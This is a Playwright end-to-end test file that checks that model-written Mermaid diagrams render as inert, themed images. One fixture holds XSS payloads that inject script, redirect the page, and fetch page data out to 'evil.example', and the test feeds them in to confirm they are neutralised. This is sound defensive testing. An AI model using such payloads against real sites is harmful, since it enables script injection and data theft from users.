"""Diagrams that models write: drawn where nothing can be done or reached, and shown as images in the page's colours."""

import re

from playwright.async_api import Locator, expect

from tertulia.domain.agents import Agent
from tests.e2e.axe import violations
from tests.e2e.rehearsed_models import RehearsedModels, says
from tests.e2e.sight import NARROW
from tests.e2e.visitor import Visit

FLOW = """\
```mermaid
flowchart LR
  accTitle: How a question is answered
  ask[Question] --> think{Known?}
  think -->|yes| answer[Answer]
  think -->|no| search[Search the web] --> answer
```
"""
OTHERS = """\
```mermaid
sequenceDiagram
  Ana->>Server: Hello
  Note right of Server: It thinks
  Server-->>Ana: Good day
```

- In a list:
  ```mermaid
  pie title Days
    "Rain" : 3
    "Sun" : 4
  ```
"""
HOSTILE = """\
```mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(https://evil.example/c.css)"}}%%
flowchart TD
  a["<img src=x onerror='parent.postMessage(1, `*`); fetch(`https://evil.example/${document.baseURI}`)'>"]
  b["<iframe srcdoc='<script>top.stolen = 1</script>'></iframe>"] --> a
  a --> c("<script>top.location = 'https://evil.example'</script>")
  click a href "javascript:top.stolen = 1" _top
  click b call alert(1)
  style a fill:url(https://evil.example/f.svg)
```
"""
HUGE = "```mermaid\nflowchart TD\n" + "\n".join(f"  n{n} --> n{n + 1}" for n in range(3000)) + "\n```\n"
MANY_EDGES = "```mermaid\nflowchart TD\n" + "\n".join(f"  n{n} --> n{n + 1}" for n in range(600)) + "\n```\n"
BROKEN = "```mermaid\nflowchart LR\n  a --> \n```\n"
PIXEL = """(image) => {
  const sheet = Object.assign(document.createElement("canvas"), {width: image.naturalWidth, height: image.naturalHeight});
  const pen = sheet.getContext("2d");
  pen.drawImage(image, 0, 0);
  const { data } = pen.getImageData(0, 0, sheet.width, sheet.height);
  const colours = new Set();
  for (let at = 0; at < data.length; at += 4) colours.add(data.slice(at, at + 3).join());
  return { corner: [...data.slice(0, 4)], colours: colours.size };
}"""


async def test_look(visit: Visit, agent: Agent, models: RehearsedModels, model: str) -> None:
    models.will(model, says(FLOW, OTHERS), says(HOSTILE), says(HUGE), says(MANY_EDGES), says(BROKEN))
    visitor = await visit(agent, color_scheme="light")
    page = visitor.page
    logs=[]
    page.context.on("request", lambda r: logs.append(r.url))
    await visitor.begin()
    for n, q in enumerate(["Draw", "Bad", "Huge", "Edges", "Broken"]):
        await visitor.say(q)
        await expect(visitor.turn(q).get_by_role("button", name="Copy answer")).to_be_visible()
        await page.wait_for_timeout(4000)
        await page.screenshot(path=f"/tmp/appify_shots/d{n}.png")
        print(q, await visitor.answer_to(q).locator("img").count(), [f.url for f in page.frames])
        for img in await visitor.answer_to(q).locator("img").all():
            print(await img.get_attribute("alt"), await img.bounding_box(), await img.evaluate(PIXEL))
    print("\n".join(logs[-30:]))
    print(visitor.watch.findings)
